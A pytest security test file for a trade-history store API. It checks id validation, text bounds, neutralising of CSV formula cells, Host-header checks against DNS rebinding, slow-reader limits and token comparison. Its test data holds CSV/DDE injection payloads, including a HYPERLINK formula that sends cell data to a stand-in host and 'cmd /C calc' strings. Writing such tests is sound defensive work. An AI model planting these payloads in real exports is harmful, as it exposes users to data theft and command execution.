"""Security of the store's history API and of the contract behind it (SECURITY.md, "How"):

- ids keep to their shapes and free text is bounded: in the contract, stricter where orders enter
  (a decimal token id); a refused order is dead-lettered with the reason, by the ingestor's parsers
  and by the store;
- CSV neutralises every text cell (ids too, even of rows stored before the checks existed), and
  numbers stay numbers;
- the API answers only to its own host names (DNS rebinding); /health and /metrics to any;
- slow CSV readers hold neither the API's whole pool nor a snapshot for long;
- the token is compared on SHA-256 digests and must have 16 characters or more.
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import hashlib
import hmac
import io
import socket
import time
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import asyncpg
import httpx
import orjson
import pytest
import redis.asyncio as aioredis
from pydantic import ValidationError

from devtools.servers import free_port
from services.ingestor.chain.markets import market_from_gamma
from services.ingestor.frames import Fill, Rejected, RejectKind, parse_frame
from services.simulator.tape import for_pass, load_tape
from services.simulator.trades import Trade
from services.store import api as store_api
from services.store import rows
from services.store.api import create_app
from services.store.main import Store
from services.store.settings import StoreSettings
from shared import models
from shared.data_api import order_from_data_api
from shared.models import DomeOrder, TrackedWallet
from shared.ops import http_server
from shared.redis_streams import encode
from shared.streams import Streams
from tests.test_store_api import AUTH, TOKEN, W1, W3, insert, seed_file, serving
from tests.test_store_rows import make_fill, make_signal
from tests.test_store_service import (
    dead_letters,
    fetch,
    has_rows,
    running_store,
    settled,
    store_settings,
    wait_until,
    xadd_all,
)

pytestmark = pytest.mark.integration

ROOT = Path(__file__).resolve().parent.parent
TAPE = ROOT / "data" / "polymarket_trades_nobel2025.json"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
HASH_FIELDS = ("condition_id", "tx_hash", "order_hash")


def dome_order(**changes: Any) -> dict[str, Any]:
    """A Dome order with the shapes Polymarket really sends (the WebSocket's `data`)."""
    return make_fill(7).model_dump(mode="json", include=set(DomeOrder.model_fields)) | changes


# --- 1a. ids keep to their shapes -------------------------------------------------------------


@pytest.mark.parametrize("field", ["token_id", *HASH_FIELDS])
@pytest.mark.parametrize("value", [*FORMULAS, " 1", "1 ", "1\n2", "x" * 300])
def test_the_contract_refuses_ids_that_are_not_ids(field: str, value: str) -> None:
    with pytest.raises(ValidationError, match=field):
        make_fill(1, **{field: value})
    if field in ("token_id", "condition_id"):
        with pytest.raises(ValidationError, match=field):
            make_signal(1, **{field: value})


@pytest.mark.parametrize("field", HASH_FIELDS)
@pytest.mark.parametrize("value", ["0x" + "g" * 64, "ab" * 32, "0x", "0x" + "a" * 64 + "\n"])
def test_hashes_are_0x_and_hex_digits(field: str, value: str) -> None:
    with pytest.raises(ValidationError, match=field):
        make_fill(1, **{field: value})


@pytest.mark.parametrize("token", ["tok-1", "0x1f", "1" * 79, "-1", "1.5", "1e9", "", "١٢"])
def test_an_order_from_outside_needs_a_decimal_token_id(token: str) -> None:
    with pytest.raises(ValidationError, match="token_id"):
        models.FeedOrder.model_validate(dome_order(token_id=token))
    assert models.FeedOrder.model_validate(dome_order(token_id="9" * 78)).token_id == "9" * 78


def test_every_order_of_the_bundled_tape_passes_the_feed_checks_with_room_to_spare() -> None:
    tape = load_tape(TAPE)
    for n, template in enumerate([*tape, *(for_pass(t, 1) for t in tape[:50])]):
        order = Trade.stamp(
            template, seq=n, timestamp=1_760_000_000, block_number=1, log_index=0, emitted_at=1.0
        ).order()
        models.FeedOrder.model_validate(order)
    assert max(len(t.title) for t in tape) < 500
    assert max(len(t.market_slug) for t in tape) < 200 / 2
    assert max(len(t.token_label) for t in tape) < 200 / 10


def test_a_hostile_id_on_the_feed_is_rejected_with_the_reason_never_raised() -> None:
    tracked = {make_fill(7).user}
    for field in ("token_id", *HASH_FIELDS):
        for value in FORMULAS:
            frame = orjson.dumps({"type": "event", "data": dome_order(**{field: value})})
            result = parse_frame(frame, tracked=tracked, received_at=time.time(), max_bytes=1 << 20)
            assert isinstance(result, Rejected), (field, value)
            assert result.kind is RejectKind.INVALID_EVENT and field in result.reason
    ok = parse_frame(
        orjson.dumps({"type": "event", "data": dome_order()}),
        tracked=tracked,
        received_at=time.time(),
        max_bytes=1 << 20,
    )
    assert isinstance(ok, Fill)


def test_a_hostile_data_api_trade_is_refused() -> None:
    item = {
        "proxyWallet": make_fill(7).user,
        "side": "BUY",
        "asset": '=HYPERLINK("x")',
        "conditionId": "0x" + "c" * 64,
        "size": 5.0,
        "price": 0.5,
        "timestamp": 1_760_086_772,
        "transactionHash": "0x" + "f" * 64,
    }
    with pytest.raises(ValidationError, match="token_id"):
        order_from_data_api(item)
    with pytest.raises(ValidationError, match="tx_hash"):
        order_from_data_api(item | {"asset": "1", "transactionHash": "+cmd|x"})


def test_gamma_metadata_is_held_to_the_contract_so_the_chain_fill_still_goes_out() -> None:
    """A chain fill is real whatever Gamma says of its market: bad metadata is dropped or cut to
    the contract's bounds, never a reason to lose the fill."""
    market = market_from_gamma(
        [
            {
                "clobTokenIds": '["12", "13"]',
                "outcomes": '["Yes", "No"]',
                "conditionId": '=HYPERLINK("x")',
                "slug": "s" * 450,
                "question": "q" * 900,
            }
        ],
        "12",
    )
    assert market.condition_id == ""
    assert (len(market.market_slug), len(market.title), market.token_label) == (200, 500, "Yes")
    order = models.FeedOrder.model_validate(
        dome_order(
            token_id="12",
            condition_id=market.condition_id,
            market_slug=market.market_slug,
            title=market.title,
        )
    )
    assert order.condition_id == ""


async def test_the_store_dead_letters_hostile_ids_and_overlong_text_and_stores_the_rest(
    redis_url: str,
    database_url: str,
    namespace: str,
    streams: Streams,
    redis_client: aioredis.Redis,
) -> None:
    good = [make_fill(i) for i in range(3)]
    base = make_fill(50).model_dump(mode="json")
    bad_orders = [
        ({"token_id": '=HYPERLINK("x")'}, "token_id"),
        ({"condition_id": "+cmd|' /C calc'!A0"}, "condition_id"),
        ({"tx_hash": "@SUM(1)"}, "tx_hash"),
        ({"order_hash": "-1+1"}, "order_hash"),
        ({"title": "t" * 5001}, "title: String should have at most 5000 characters"),
        ({"market_slug": "s" * 201}, "market_slug: String should have at most 200 characters"),
        ({"token_label": "l" * 201}, "token_label: String should have at most 200 characters"),
    ]
    signal = make_signal(60).model_dump(mode="json")
    bad_signals = [
        ({"token_id": "=1+1"}, "token_id"),
        ({"condition_id": "=1+1"}, "condition_id"),
        ({"wallet_label": "w" * 201}, "wallet_label: String should have at most 200 characters"),
        ({"title": "t" * 5001}, "title: String should have at most 5000 characters"),
    ]
    await xadd_all(
        redis_client,
        streams.orders_raw,
        [good[0], *({b"data": orjson.dumps(base | c)} for c, _ in bad_orders), *good[1:]],
    )
    await xadd_all(
        redis_client,
        streams.signals,
        [make_signal(1), *({b"data": orjson.dumps(signal | c)} for c, _ in bad_signals)],
    )
    async with running_store(store_settings(redis_url, database_url, namespace)):
        await wait_until(has_rows(database_url, "orders", 3), "the good orders")
        await wait_until(has_rows(database_url, "signals", 1), "the good signal")
        await wait_until(lambda: settled(redis_client, streams.orders_raw), "orders acked")
        await wait_until(lambda: settled(redis_client, streams.signals), "signals acked")

    stored = await fetch(database_url, "SELECT order_key FROM orders")
    assert {r["order_key"] for r in stored} == {f.order_key for f in good}
    for dead, expected in (
        (streams.orders_dead, bad_orders),
        (streams.signals_dead, bad_signals),
    ):
        reasons = [f[b"reason"].decode() for _, f in await dead_letters(redis_client, dead)]
        assert len(reasons) == len(expected)
        for reason, (_, says) in zip(reasons, expected, strict=True):
            assert "invalid" in reason and says in reason, reason


# --- 2. free text is bounded ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "limit"), [("title", 5000), ("market_slug", 200), ("token_label", 200)]
)
def test_free_text_of_an_order_is_bounded(field: str, limit: int) -> None:
    assert len(getattr(make_fill(1, **{field: "x" * limit}), field)) == limit
    with pytest.raises(ValidationError, match=rf"{field}\n.*at most {limit} characters"):
        make_fill(1, **{field: "x" * (limit + 1)})


@pytest.mark.parametrize(
    ("field", "limit"),
    [("title", 5000), ("market_slug", 200), ("token_label", 200), ("wallet_label", 200)],
)
def test_free_text_of_a_signal_is_bounded(field: str, limit: int) -> None:
    assert len(getattr(make_signal(1, **{field: "x" * limit}), field)) == limit
    with pytest.raises(ValidationError, match=rf"{field}\n.*at most {limit} characters"):
        make_signal(1, **{field: "x" * (limit + 1)})


def test_a_wallet_label_is_bounded() -> None:
    assert TrackedWallet(address=W1, label="x" * 200).label == "x" * 200
    with pytest.raises(ValidationError, match=r"label\n.*at most 200 characters"):
        TrackedWallet(address=W1, label="x" * 201)


# --- 1b. CSV neutralises every text cell ---------------------------------------------------------


@dataclass
class Served:
    store: Store
    client: httpx.AsyncClient
    settings: StoreSettings


@pytest.fixture
async def served(
    redis_url: str,
    database_url: str,
    namespace: str,
    tmp_path: Path,
    redis_client: aioredis.Redis,
) -> AsyncIterator[Served]:
    settings = store_settings(
        redis_url, database_url, namespace, store_api_token=TOKEN, wallets_file=seed_file(tmp_path)
    )
    async with serving(settings) as running:
        yield Served(running.store, running.client, settings)


async def legacy_row(store: Store, table: rows.Table, item: Any, **values: Any) -> None:
    """A row as a store before these checks could have kept it: valid then, hostile now."""
    entries: list[Any] = [("1-0", encode(item))]
    [row] = rows.prepare(table, entries).rows
    changed = tuple(values.get(c, v) for c, v in zip(table.columns, row.values, strict=True))
    await store.db.write(table, [rows.Row(row.stream_id, row.raw, row.key, changed)])


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_no_formula(table: list[dict[str, str]], numeric: set[str]) -> None:
    for row in table:
        for column, cell in row.items():
            if column in numeric:
                if cell:
                    float(cell)  # a number, not text made safe
            else:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


ORDER_NUMBERS = {
    "shares",
    "shares_normalized",
    "price",
    "notional_usd",
    "block_number",
    "log_index",
}
SIGNAL_NUMBERS = {"price", "shares", "notional_usd", "confidence"}
# Streamed (every row), and one page.
CSV_PARAMS: list[dict[str, str | int]] = [{"format": "csv"}, {"format": "csv", "limit": 10}]


async def test_csv_neutralises_every_text_cell_of_orders(served: Served) -> None:
    hostile = FORMULAS[0]
    await insert(
        served.store,
        rows.ORDERS,
        [make_fill(1, title=FORMULAS[1], market_slug=FORMULAS[2], token_label=FORMULAS[3])],
    )
    await legacy_row(
        served.store,
        rows.ORDERS,
        make_fill(2),
        token_id=hostile,
        condition_id=FORMULAS[1],
        tx_hash=FORMULAS[4],
        order_hash=FORMULAS[5],
        taker="@x",
        market_slug="-x",
        block_number=-5,
    )
    for params in CSV_PARAMS:
        response = await served.client.get("/orders", params=params)
        assert response.status_code == 200, response.text
        table = csv_rows(response.text)
        assert len(table) == 2
        assert_no_formula(table, ORDER_NUMBERS)
        legacy = next(r for r in table if r["token_id"] != make_fill(1).token_id)
        assert legacy["token_id"] == "'" + hostile
        assert legacy["condition_id"] == "'" + FORMULAS[1]
        assert (legacy["tx_hash"], legacy["order_hash"]) == ("'" + FORMULAS[4], "'" + FORMULAS[5])
        assert legacy["block_number"] == "-5"  # numbers stay numbers
        fresh = next(r for r in table if r is not legacy)
        assert fresh["title"] == "'" + FORMULAS[1] and fresh["token_label"] == "'" + FORMULAS[3]
        assert fresh["price"] == "0.56"


async def test_csv_neutralises_every_text_cell_of_signals(served: Served) -> None:
    await insert(
        served.store,
        rows.SIGNALS,
        [
            make_signal(
                1,
                wallet_label=FORMULAS[0],
                title=FORMULAS[1],
                market_slug=FORMULAS[2],
                token_label=FORMULAS[3],
                reasons=["=1+1", "fine"],
            )
        ],
    )
    await legacy_row(
        served.store,
        rows.SIGNALS,
        make_signal(2),
        token_id=FORMULAS[0],
        condition_id=FORMULAS[4],
        shares=-2.5,
    )
    for params in CSV_PARAMS:
        table = csv_rows((await served.client.get("/signals", params=params)).text)
        assert len(table) == 2
        assert_no_formula(table, SIGNAL_NUMBERS)
        by_label = {r["wallet_label"]: r for r in table}
        fresh = by_label["'" + FORMULAS[0]]
        assert fresh["reasons"] == "'=1+1; fine"
        assert fresh["title"] == "'" + FORMULAS[1]
        legacy = next(r for r in table if r is not fresh)
        assert legacy["token_id"] == "'" + FORMULAS[0]
        assert legacy["condition_id"] == "'" + FORMULAS[4]
        assert legacy["shares"] == "-2.5"


# --- 3. DNS rebinding: the Host header is checked ------------------------------------------------

OWN_HOSTS = ("localhost", "localhost:8081", "127.0.0.1:8081", "[::1]:8081", "store", "STORE:8081")
FOREIGN_HOSTS = (
    "evil.example",
    "evil.example:8081",
    "localhost.evil.example",
    "store.evil.example:8081",
    "127.0.0.1.nip.io",
    "[::1].evil.example",
)


async def test_the_api_answers_only_to_its_own_host_names(served: Served) -> None:
    client = served.client
    for host in OWN_HOSTS:
        for path in ("/signals", "/orders?format=csv", "/wallets", "/openapi.json"):
            response = await client.get(path, headers={"Host": host})
            assert response.status_code == 200, (host, path, response.text)
    for host in FOREIGN_HOSTS:
        for path in ("/signals", "/orders?format=csv", "/wallets", "/docs", "/openapi.json"):
            response = await client.get(path, headers={"Host": host})
            assert response.status_code == 400, (host, path, response.text)
            assert "STORE_API_ALLOWED_HOSTS" in response.json()["detail"]
        response = await client.put(
            f"/wallets/{W3}", json={"label": "x"}, headers=AUTH | {"Host": host}
        )
        assert response.status_code == 400
    assert W3 not in {w["address"] for w in (await client.get("/wallets")).json()}
    # Prometheus scrapes by IP address, and health probes go anywhere: both stay open.
    for host in ("evil.example", "172.18.0.5:8081"):
        for path in ("/health", "/metrics"):
            assert (await client.get(path, headers={"Host": host})).status_code == 200, path


async def test_allowed_hosts_are_a_setting_and_star_allows_any(
    redis_url: str,
    database_url: str,
    namespace: str,
    tmp_path: Path,
    redis_client: aioredis.Redis,
) -> None:
    assert StoreSettings().store_api_allowed_hosts == "localhost,127.0.0.1,[::1],store"
    listed = StoreSettings(store_api_allowed_hosts=" Example.ORG , [::1],bot.example ")
    assert listed.allowed_hosts == ("example.org", "[::1]", "bot.example", "127.0.0.1")
    # OPS_HOST is served by its own name when it names one address, not when it is all of them.
    assert StoreSettings(ops_host="10.1.2.3").allowed_hosts[-1] == "10.1.2.3"
    assert StoreSettings(ops_host="::1").allowed_hosts.count("[::1]") == 1
    assert StoreSettings(ops_host="0.0.0.0").allowed_hosts == (
        "localhost",
        "127.0.0.1",
        "[::1]",
        "store",
    )
    refusals = ((" , ", "is empty"), ("bot.example:8081", "no scheme or port"), ("http://a", ""))
    for bad, says in refusals:
        with pytest.raises(ValidationError, match=f"STORE_API_ALLOWED_HOSTS.*{says}"):
            StoreSettings(store_api_allowed_hosts=bad)
    for value, host, status in (("*", "evil.example", 200), ("example.org", "localhost", 400)):
        settings = store_settings(
            redis_url,
            database_url,
            namespace,
            store_api_allowed_hosts=value,
            wallets_file=seed_file(tmp_path),
        )
        async with serving(settings) as running:
            response = await running.client.get("/signals", headers={"Host": host})
            assert response.status_code == status, (value, host)


# --- 4. slow CSV readers -------------------------------------------------------------------------

CSV_REQUEST = b"GET /orders?format=csv HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"


@dataclass
class SlowReader:
    """A CSV download that reads its headers, then nothing: the server's writes back up."""

    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter
    status: int
    headers: dict[str, str]

    async def body(self) -> bytes:
        """A complete response's body (the connection stays open)."""
        length = int(self.headers["content-length"])
        return await asyncio.wait_for(self.reader.readexactly(length), 10)

    async def rest(self) -> bytes:
        """Whatever comes until the server closes the connection."""
        return await asyncio.wait_for(self.reader.read(), 30)


async def slow_reader(port: int) -> SlowReader:
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.setblocking(False)
    await asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", port))
    reader, writer = await asyncio.open_connection(sock=sock, limit=4096)
    writer.write(CSV_REQUEST)
    head = (await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 15)).decode()
    status_line, *lines = head.strip().split("\r\n")
    headers = {k.lower(): v.strip() for k, v in (line.split(":", 1) for line in lines)}
    return SlowReader(reader, writer, int(status_line.split()[1]), headers)


@contextlib.asynccontextmanager
async def listening(store: Store, settings: StoreSettings) -> AsyncIterator[int]:
    """The store's app on a real socket, as `python -m services.store` serves it."""
    port = free_port()
    app = create_app(store.api(), store.health, settings.store_api_max_body_bytes)
    server = http_server(app, "127.0.0.1", port)
    task = asyncio.create_task(server.serve())

    async def started() -> bool:
        return bool(server.started)

    await wait_until(started, "the API to listen")
    try:
        yield port
    finally:
        server.should_exit = True
        await asyncio.wait_for(task, 30)


async def open_transactions(database_url: str) -> int:
    conn = await asyncpg.connect(database_url)
    try:
        return int(
            await conn.fetchval(
                "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() "
                "AND state LIKE 'idle in transaction%' AND pid <> pg_backend_pid()"
            )
        )
    finally:
        await conn.close()


async def test_slow_csv_readers_cannot_starve_the_api_and_are_cut_after_the_bound(
    redis_url: str,
    database_url: str,
    namespace: str,
    tmp_path: Path,
    redis_client: aioredis.Redis,
) -> None:
    max_seconds = 4.0
    settings = store_settings(
        redis_url,
        database_url,
        namespace,
        store_api_token=TOKEN,
        store_api_pool_size=4,
        store_csv_max_streams=2,
        store_csv_max_seconds=max_seconds,
        wallets_file=seed_file(tmp_path),
    )
    # ~12 MB of CSV: far more than the socket buffers between a reader and the server hold.
    fills = [make_fill(i, title=f"{i} " + "t" * 480) for i in range(12_000)]
    async with running_store(settings) as store:
        for start in range(0, len(fills), 2000):
            await insert(store, rows.ORDERS, fills[start : start + 2000])
        async with listening(store, settings) as port, contextlib.AsyncExitStack() as opened:
            began = time.monotonic()
            readers = []
            for _ in range(4):
                readers.append(await slow_reader(port))
                opened.callback(readers[-1].writer.close)
            assert [r.status for r in readers] == [200, 200, 503, 503]
            for refused in readers[2:]:
                assert refused.headers["retry-after"].isdigit()
                assert b"CSV exports" in await refused.body()
            # With two downloads stalled, reads and writes are still served, promptly.
            async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}", timeout=2) as client:
                for method, path, kwargs in (
                    ("GET", "/orders", {"params": {"limit": 5}}),
                    ("GET", "/signals", {}),
                    ("GET", "/orders", {"params": {"format": "csv", "limit": 50}}),
                    ("PUT", f"/wallets/{W3}", {"json": {"label": "three"}, "headers": AUTH}),
                    ("GET", "/wallets", {}),
                ):
                    response = await client.request(method, path, **kwargs)
                    assert response.status_code in (200, 201), (path, response.text)
                # Past the bound the stalled downloads are cut (no final chunk), their
                # connections and snapshots given back.
                await asyncio.sleep(max(0.0, began + max_seconds + 1 - time.monotonic()))
                for stalled in readers[:2]:
                    body = await stalled.rest()
                    assert not body.endswith(b"0\r\n\r\n"), "a stalled download ran to its end"
                assert await open_transactions(database_url) == 0
                complete = await client.get("/orders", params={"format": "csv"}, timeout=30)
                assert complete.status_code == 200
                assert len(csv_rows(complete.text)) == len(fills)


def test_csv_streams_must_leave_connections_for_the_rest_of_the_api() -> None:
    assert (StoreSettings().store_csv_max_streams, StoreSettings().store_api_pool_size) == (2, 4)
    with pytest.raises(ValidationError, match="smaller than STORE_API_POOL_SIZE"):
        StoreSettings(store_api_pool_size=2, store_csv_max_streams=2)
    assert StoreSettings(store_api_pool_size=1, store_csv_max_streams=0).store_csv_max_streams == 0


# --- 5. the token ---------------------------------------------------------------------------------


@pytest.fixture
def compared(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[tuple[bytes, bytes]]]:
    calls: list[tuple[bytes, bytes]] = []
    real = hmac.compare_digest

    def spy(a: Any, b: Any) -> bool:
        calls.append((a, b))
        return real(a, b)

    monkeypatch.setattr(store_api.hmac, "compare_digest", spy)
    yield calls


async def test_the_token_is_compared_on_digests_of_equal_length(
    served: Served, compared: list[tuple[bytes, bytes]]
) -> None:
    for presented in ("x", "wrong-token-0123456789", TOKEN[:-1], TOKEN + "x" * 500, TOKEN):
        headers = {"Authorization": f"Bearer {presented}"}
        response = await served.client.put(f"/wallets/{W3}", json={}, headers=headers)
        assert response.status_code == (201 if presented == TOKEN else 401)
    assert len(compared) == 5
    for a, b in compared:
        assert len(a) == len(b) == hashlib.sha256().digest_size
    assert TOKEN.encode() not in {x for pair in compared for x in pair}


def test_a_short_token_is_refused_at_startup_without_echoing_it() -> None:
    with pytest.raises(ValidationError, match="at least 16 characters") as refused:
        StoreSettings(store_api_token="fifteen-chars-x")
    assert "fifteen-chars-x" not in str(refused.value)
    assert StoreSettings(store_api_token="sixteen-chars-xy").store_api_token is not None
